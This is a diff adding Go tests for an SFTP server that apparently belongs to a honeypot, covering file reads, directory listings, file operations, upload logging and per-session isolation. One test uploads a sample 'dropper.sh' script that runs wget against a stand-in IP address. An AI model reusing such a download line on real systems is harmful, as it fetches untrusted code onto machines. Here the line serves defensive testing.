@@ -0,0 +1,151 @@
+package main
+
+import (
+	"io/ioutil"
+	"os"
+	"sort"
+	"strings"
+	"testing"
+
+	"github.com/pkg/sftp"
+)
+
+func TestSftp(t *testing.T) {
+	addr, sink := startTestServer(t)
+	conn := dialTestServer(t, addr)
+	client, err := sftp.NewClient(conn)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer client.Close()
+
+	f, err := client.Open("/a/somefile")
+	if err != nil {
+		t.Fatal(err)
+	}
+	content, _ := ioutil.ReadAll(f)
+	f.Close()
+	if string(content) != "this is file a/somefile\n" {
+		t.Errorf("read %q from /a/somefile", content)
+	}
+
+	upload, err := client.Create("/a/dropper.sh")
+	if err != nil {
+		t.Fatal(err)
+	}
+	upload.Write([]byte("#!/bin/sh\nwget http://198.51.100.9/x\n"))
+	upload.Close()
+	f, err = client.Open("/a/dropper.sh")
+	if err != nil {
+		t.Fatalf("uploaded file can't be opened: %v", err)
+	}
+	content, _ = ioutil.ReadAll(f)
+	f.Close()
+	if !strings.HasPrefix(string(content), "#!/bin/sh") {
+		t.Errorf("read %q back from the upload", content)
+	}
+
+	tests := []struct {
+		path      string
+		wantNames []string
+		wantErr   bool
+	}{
+		{"/a", []string{"b", "dropper.sh", "somefile"}, false},
+		{"/a/b", []string{"someotherfile"}, false},
+		{"/missing", nil, true},
+	}
+	for _, test := range tests {
+		infos, err := client.ReadDir(test.path)
+		if (err != nil) != test.wantErr {
+			t.Errorf("ReadDir(%s) error = %v, want error %v", test.path, err, test.wantErr)
+			continue
+		}
+		names := []string{}
+		for _, info := range infos {
+			names = append(names, info.Name())
+		}
+		sort.Strings(names)
+		if strings.Join(names, ",") != strings.Join(test.wantNames, ",") {
+			t.Errorf("ReadDir(%s) = %v, want %v", test.path, names, test.wantNames)
+		}
+	}
+
+	info, err := client.Stat("/a/b")
+	if err != nil || !info.IsDir() {
+		t.Errorf("Stat(/a/b) = %v, %v, want a directory", info, err)
+	}
+	if _, err := client.Stat("/a/nothing"); !os.IsNotExist(err) {
+		t.Errorf("Stat of a missing file gave %v", err)
+	}
+	sink.mu.Lock()
+	defer sink.mu.Unlock()
+	uploaded := false
+	for _, doc := range sink.docs {
+		if sftpDoc, ok := doc.Fields.(DocSftp); ok && sftpDoc.Operation == "put" {
+			uploaded = sftpDoc.SHA256 != "" && len(doc.Payloads) == 1
+		}
+	}
+	if !uploaded {
+		t.Error("no sftp put event with the upload's hash")
+	}
+}
+
+func TestSftpFileCommands(t *testing.T) {
+	addr, _ := startTestServer(t)
+	conn := dialTestServer(t, addr)
+	client, err := sftp.NewClient(conn)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer client.Close()
+	for _, name := range []string{"/a/cmd-file", "/a/cmd-other"} {
+		f, err := client.Create(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		f.Write([]byte(name))
+		f.Close()
+	}
+
+	tests := []struct {
+		name      string
+		op        func() error
+		wantErr   bool
+		wantExist []string
+		wantGone  []string
+	}{
+		{"mkdir", func() error { return client.Mkdir("/a/cmd-dir") }, false, []string{"/a/cmd-dir"}, nil},
+		{"mkdir existing", func() error { return client.Mkdir("/a/cmd-dir") }, true, nil, nil},
+		{"mkdir without parent", func() error { return client.Mkdir("/a/missing/dir") }, true, nil, []string{"/a/missing"}},
+		{"rename", func() error { return client.Rename("/a/cmd-file", "/a/cmd-dir/moved") }, false, []string{"/a/cmd-dir/moved"}, []string{"/a/cmd-file"}},
+		{"rename onto a file", func() error { return client.Rename("/a/cmd-other", "/a/cmd-dir/moved") }, true, []string{"/a/cmd-other"}, nil},
+		{"posix rename onto a file", func() error { return client.PosixRename("/a/cmd-other", "/a/cmd-dir/moved") }, false, []string{"/a/cmd-dir/moved"}, []string{"/a/cmd-other"}},
+		{"rename missing", func() error { return client.Rename("/a/nothing", "/a/cmd-x") }, true, nil, []string{"/a/cmd-x"}},
+		{"rmdir non-empty", func() error { return client.RemoveDirectory("/a/cmd-dir") }, true, []string{"/a/cmd-dir"}, nil},
+		{"remove directory", func() error { return client.Remove("/a/cmd-dir") }, true, []string{"/a/cmd-dir"}, nil},
+		{"remove file", func() error { return client.Remove("/a/cmd-dir/moved") }, false, nil, []string{"/a/cmd-dir/moved"}},
+		{"remove missing", func() error { return client.Remove("/a/cmd-dir/moved") }, true, nil, nil},
+		{"rmdir file", func() error { return client.RemoveDirectory("/a/somefile") }, true, []string{"/a/somefile"}, nil},
+		{"rmdir", func() error { return client.RemoveDirectory("/a/cmd-dir") }, false, nil, []string{"/a/cmd-dir"}},
+		{"remove a file from the config", func() error { return client.Remove("/a/somefile") }, false, nil, []string{"/a/somefile"}},
+	}
+	for _, test := range tests {
+		if err := test.op(); (err != nil) != test.wantErr {
+			t.Errorf("%s: error = %v, want error %v", test.name, err, test.wantErr)
+		}
+		for _, p := range test.wantExist {
+			if _, err := client.Lstat(p); err != nil {
+				t.Errorf("%s: %s is gone: %v", test.name, p, err)
+			}
+		}
+		for _, p := range test.wantGone {
+			if _, err := client.Lstat(p); !os.IsNotExist(err) {
+				t.Errorf("%s: %s is still there: %v", test.name, p, err)
+			}
+		}
+	}
+	// Only the session's overlay changed.
+	if err, _ := FILESYSTEM.Root.GetFileOrDir(FILESYSTEM.Root, "/a/somefile"); err != nil {
+		t.Errorf("removing over SFTP reached the shared filesystem: %v", err)
+	}
+}